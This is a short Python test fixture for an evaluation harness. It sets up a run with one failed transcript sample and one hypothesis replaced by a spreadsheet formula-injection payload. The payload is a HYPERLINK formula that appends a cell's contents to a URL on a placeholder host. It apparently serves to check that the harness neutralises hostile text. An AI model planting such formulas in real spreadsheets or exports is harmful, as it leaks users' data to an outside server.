"""A run with a failed sample, and with texts that attack a spreadsheet."""

from __future__ import annotations

from pathlib import Path

import pytest

import harness
from tests.conftest import HYPOTHESES, WriteSuite

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"what did peter study")'


@pytest.fixture
def run(write_suite: WriteSuite, tmp_path: Path) -> Path:
    suite = write_suite(hypotheses={**HYPOTHESES, "medawar": FORMULA})
    path = suite / "transcripts" / "perfect.jsonl"
    path.write_text("".join(line + "\n" for line in path.read_text().splitlines()[1:]))
    return harness.run(suite, backends=["replay:vendor", "replay:perfect"], jobs=1, out=tmp_path / "run").folder
